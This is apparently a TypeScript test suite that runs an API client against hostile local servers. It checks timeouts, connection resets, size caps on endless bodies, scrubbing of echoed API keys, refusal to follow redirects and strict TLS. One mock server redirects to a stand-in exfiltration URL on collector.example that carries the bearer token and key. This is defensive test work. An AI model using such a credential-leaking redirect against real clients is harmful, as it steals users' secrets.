// The client against hostile servers, in-process: every transport fault ends in bounded time as a
// TransportError naming the cause, answers are capped and scrubbed, redirects are reported and never followed,
// certificate problems name the host and CA_FILE, and nothing (server, socket) is left open afterwards.

import type { ServerResponse } from 'node:http';
import type { Socket } from 'node:net';
import { describe, expect, it } from 'vitest';
import { CUT_SHORT, TargetHttp, TransportError, type ApiRequest, type Response } from '../../src/http/client.js';
import { CUT_TEXT_BYTES, LISTING_CAP_BYTES } from '../../src/http/body-caps.js';
import type { RecordedExchange } from '../../src/evidence/exchange.js';
import { secretForms } from '../../src/evidence/secrets.js';
import type { TargetConfig } from '../../src/config/target.js';
import {
  expectNothingLeftBehind,
  makeCertificate,
  startHttps,
  startTcp,
  type Hostile,
  hostileTarget,
} from '../hostile/servers.js';

const KEY = 'sk_live_Hostile0123456789';
const GET: ApiRequest = { api: 'scan-forms', method: 'GET', path: '/scan_forms' };
const TIMEOUT_MS = 400;

function targetFor(server: Hostile, overrides: Partial<TargetConfig> = {}): TargetConfig {
  return hostileTarget(server, { apiKey: KEY, requestTimeoutMs: TIMEOUT_MS, maxRetryAfterMs: 1_000, ...overrides });
}

interface Sent {
  readonly result: Response | TransportError;
  readonly exchanges: RecordedExchange[];
  readonly ms: number;
  readonly http: TargetHttp;
}

let server: Hostile | undefined;
expectNothingLeftBehind(async () => {
  await server?.close();
  server = undefined;
});

async function send(target: TargetConfig, req: ApiRequest = GET, signal?: AbortSignal): Promise<Sent> {
  const http = new TargetHttp(target, signal === undefined ? {} : { signal });
  const exchanges: RecordedExchange[] = [];
  const started = performance.now();
  try {
    const result = await http
      .send(req, (e) => exchanges.push(e))
      .catch((error: unknown) => {
        if (error instanceof TransportError) return error;
        throw error;
      });
    return { result, exchanges, ms: performance.now() - started, http };
  } finally {
    await http.close();
  }
}

function transportError(sent: Sent): TransportError {
  expect(sent.result).toBeInstanceOf(TransportError);
  return sent.result as TransportError;
}

function response(sent: Sent): Response {
  expect(sent.result).not.toBeInstanceOf(TransportError);
  return sent.result as Response;
}

/** Generous: the bound is what matters (no hang), not the exact time. */
const BOUND_MS = TIMEOUT_MS * 2 + 4_000;

describe('transport faults end in bounded time with the cause named', () => {
  it('a server that accepts and never answers (not even TLS): connect timeout', async () => {
    server = await startTcp(() => undefined);
    const sent = await send(targetFor(server));
    const error = transportError(sent);
    expect(error.message).toBe(`connecting to 127.0.0.1:${server.port} timed out (TCP and TLS handshake)`);
    expect(sent.ms).toBeLessThan(BOUND_MS);
  });

  it('an HTTPS server that reads the request and never answers: headers timeout', async () => {
    server = await startHttps(() => undefined);
    const error = transportError(await send(targetFor(server)));
    expect(error.message).toBe(`127.0.0.1:${server.port} accepted the request but sent no response headers in time`);
    expect(error.exchange.error).toBe(error.message);
    expect(error.exchange.status).toBeUndefined();
  });

  it('a server that sends headers then stalls the body: body timeout', async () => {
    server = await startHttps((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"scan_forms":[');
    });
    const sent = await send(targetFor(server));
    expect(transportError(sent).message).toBe(`127.0.0.1:${server.port} sent headers but stalled the body`);
    expect(sent.ms).toBeLessThan(BOUND_MS);
  });

  it('a server that resets every connection', async () => {
    server = await startTcp((socket: Socket) => socket.resetAndDestroy());
    const error = transportError(await send(targetFor(server)));
    expect(error.message).toMatch(
      new RegExp(
        `^127\\.0\\.0\\.1:${server.port} closed or reset the connection before answering, on the first connection and again on 2 fresh connections$|^request to 127\\.0\\.0\\.1:${server.port} failed: .*(ECONNRESET|socket)`,
      ),
    );
  });

  it('a server that resets the connection after reading the request', async () => {
    server = await startHttps((_req, res) => {
      res.socket?.destroy();
    });
    const error = transportError(await send(targetFor(server)));
    expect(error.message).toContain(`127.0.0.1:${server.port}`);
    expect(error.message).toMatch(/closed or reset/);
  });

  it('an aborted run signal ends a request in flight at once, as cut short', async () => {
    server = await startHttps(() => undefined);
    const abort = new AbortController();
    setTimeout(() => abort.abort(new Error('the run deadline of 1000 ms passed')), 50);
    const sent = await send(targetFor(server, { requestTimeoutMs: 30_000 }), GET, abort.signal);
    const error = transportError(sent);
    expect(error.code).toBe(CUT_SHORT);
    expect(error.message).toBe(
      `the run deadline of 1000 ms passed; the request to 127.0.0.1:${server.port} was abandoned`,
    );
    // Well below the 30 s request timeout: the abort ended it (room left for a loaded machine).
    expect(sent.ms).toBeLessThan(15_000);
  });
});

describe('answers the client reads but does not trust', () => {
  const endless =
    (status = 200, filler = 'x') =>
    (_req: unknown, res: ServerResponse): void => {
      res.writeHead(status, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(64 * 1024, filler);
      // Writes until the client hangs up: without the cap this would never end.
      const pump = () => {
        while (!res.destroyed && res.write(chunk));
        if (!res.destroyed) res.once('drain', pump);
      };
      res.write('[');
      pump();
    };

  it('an endless answer to a write is cut at the 256 KiB cap, not parsed, and the cut is said', async () => {
    server = await startHttps(endless());
    const sent = await send(targetFor(server, { requestTimeoutMs: 5_000 }), {
      api: 'orders',
      method: 'POST',
      path: '/orders',
      json: { reference: 'hostile-cap-1' },
    });
    const res = response(sent);
    expect(res.truncated).toBe(true);
    // Only the head of a cut body is kept, for excerpts.
    expect(res.text.length).toBe(CUT_TEXT_BYTES);
    expect(res.json).toBeUndefined();
    expect(res.jsonError).toBe(
      'the body is larger than the 256 KiB read cap; only its first 256 KiB were read, so it was not parsed as JSON',
    );
    expect(sent.exchanges[0]?.truncated).toBe(true);
    expect(sent.exchanges[0]?.bodyExcerpt?.length).toBe(2_000);
    expect(sent.http.wasCut(sent.exchanges[0]!)).toBe(true);
    expect(sent.http.cutNote(sent.exchanges[0]!)).toMatch(
      /^POST https:\/\/127\.0\.0\.1:\d+\/v1\.0\/orders answered a body larger than the 256 KiB read cap; only its first 256 KiB were read$/,
    );
  });

  it('an endless listing of objects is read on to the 8 MiB listing cap, keeping only its head as text', async () => {
    server = await startHttps(endless(200, '{"reference":"x"},'));
    const sent = await send(targetFor(server, { requestTimeoutMs: 10_000 }));
    const res = response(sent);
    expect(res.truncated).toBe(true);
    expect(LISTING_CAP_BYTES).toBe(8 * 1024 * 1024);
    expect(res.text.length).toBe(CUT_TEXT_BYTES);
    expect(res.jsonError).toBe(
      'the body is larger than the 8 MiB read cap; only its first 8 MiB were read, so it was not parsed as JSON',
    );
    expect(sent.http.cutNote(sent.exchanges[0]!)).toMatch(
      /answered a body larger than the 8 MiB read cap; only its first 8 MiB were read$/,
    );
  });

  it('a listing whose head is filler, not objects, is cut at the ordinary cap', async () => {
    server = await startHttps(endless());
    const res = response(await send(targetFor(server, { requestTimeoutMs: 5_000 })));
    expect(res.jsonError).toMatch(/larger than the 256 KiB read cap/);
  });

  it('an error answer to a listing is cut at the ordinary cap: only a successful listing may be large', async () => {
    server = await startHttps(endless(500, '{"reference":"x"},'));
    const res = response(await send(targetFor(server, { requestTimeoutMs: 5_000 })));
    expect(res.status).toBe(500);
    expect(res.jsonError).toMatch(/larger than the 256 KiB read cap/);
  });

  it('a redirect is reported, never followed, and its Location scrubbed of the key', async () => {
    server = await startHttps((req, res) => {
      res.writeHead(302, {
        location: `https://collector.example/steal?auth=${encodeURIComponent(req.headers.authorization ?? '')}&k=${KEY}`,
      });
      res.end();
    });
    const res = response(await send(targetFor(server)));
    expect(res.status).toBe(302);
    expect(server.seen).toHaveLength(1);
    expect(res.headers.location).toBe('https://collector.example/steal?auth=Bearer%20$API_KEY&k=$API_KEY');
  });

  it('a 5xx answer is handed to the check as it came', async () => {
    server = await startHttps((_req, res) => {
      res.writeHead(503, { 'content-type': 'text/html' });
      res.end('<h1>Service Unavailable</h1>');
    });
    const res = response(await send(targetFor(server)));
    expect(res.status).toBe(503);
    expect(res.json).toBeUndefined();
    expect(res.jsonError).toMatch(/^the body is not JSON \(/);
  });

  it('an echoed key never reaches the check, the evidence or a parse error', async () => {
    server = await startHttps((req, res) => {
      const auth = req.headers.authorization ?? '';
      res.writeHead(400, {
        'content-type': 'application/json',
        'x-echo-authorization': auth,
        'set-cookie': `k=${Buffer.from(KEY).toString('base64')}`,
      });
      res.end(
        JSON.stringify({
          statusCode: 400,
          error: 'Bad Request',
          message: `invalid key ${KEY.toLowerCase()}`,
          [KEY]: auth,
          nested: [{ echo: encodeURIComponent(KEY) }],
        }),
      );
    });
    const sent = await send(targetFor(server));
    const res = response(sent);
    const everything = JSON.stringify([res.text, res.json, res.headers, res.jsonError, sent.exchanges]);
    for (const form of secretForms(KEY)) expect(everything).not.toContain(form);
    expect(res.json).toMatchObject({
      message: 'invalid key $API_KEY',
      $API_KEY: 'Bearer $API_KEY',
      nested: [{ echo: '$API_KEY' }],
    });
    expect(res.headers['x-echo-authorization']).toBe('Bearer $API_KEY');
  });

  it('a key echoed into a non-JSON body does not leak through the parse error message', async () => {
    server = await startHttps((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(`${KEY} is not welcome here`);
    });
    const res = response(await send(targetFor(server)));
    expect(res.jsonError).toBeDefined();
    for (const form of secretForms(KEY)) expect(res.jsonError).not.toContain(form.slice(0, 8));
  });
});

describe('certificates: no insecure mode, and a message naming the host and CA_FILE', () => {
  async function tlsMessage(certificate: Awaited<ReturnType<typeof makeCertificate>>, trust?: string): Promise<string> {
    server = await startHttps((_req, res) => void res.end('{}'), {
      certificate,
      ...(trust === undefined ? {} : { trust }),
    });
    const error = transportError(await send(targetFor(server)));
    expect(server.seen).toHaveLength(0);
    return error.message;
  }

  it('a certificate for another host name', async () => {
    const message = await tlsMessage(await makeCertificate({ names: 'elsewhere' }));
    expect(message).toMatch(
      /^the TLS certificate of 127\.0\.0\.1:\d+ does not name that host \(ERR_TLS_CERT_ALTNAME_INVALID\); trusted: the system roots and CA_FILE \(.*ca\.pem\); .*; the suite has no insecure mode$/,
    );
  });

  it('a self-signed certificate that CA_FILE does not hold', async () => {
    const other = await makeCertificate();
    const message = await tlsMessage(await makeCertificate(), other.cert);
    expect(message).toMatch(
      /^the TLS certificate of 127\.0\.0\.1:\d+ is not trusted \((DEPTH_ZERO_SELF_SIGNED_CERT|SELF_SIGNED_CERT_IN_CHAIN|UNABLE_TO_VERIFY_LEAF_SIGNATURE)\); trusted: the system roots and CA_FILE \(.*ca\.pem\); add the CA that issued it to CA_FILE/,
    );
  });

  it('an expired certificate', async () => {
    const message = await tlsMessage(await makeCertificate({ expired: true }));
    expect(message).toMatch(
      /^the TLS certificate of 127\.0\.0\.1:\d+ has expired \(CERT_HAS_EXPIRED\); trusted: the system roots and CA_FILE/,
    );
  });

  it('stays strict when NODE_TLS_REJECT_UNAUTHORIZED=0 is set', async () => {
    const previous = process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
    try {
      const other = await makeCertificate();
      expect(await tlsMessage(await makeCertificate(), other.cert)).toMatch(/is not trusted/);
    } finally {
      if (previous === undefined) delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
      else process.env.NODE_TLS_REJECT_UNAUTHORIZED = previous;
    }
  });

  it('without CA_FILE, says to set it', async () => {
    server = await startHttps((_req, res) => void res.end('{}'));
    const error = transportError(await send(targetFor(server, { caPem: undefined, caSource: undefined })));
    expect(error.message).toMatch(
      /is not trusted .*trusted: the system roots \(CA_FILE is not set\); set CA_FILE to a PEM bundle/,
    );
  });
});
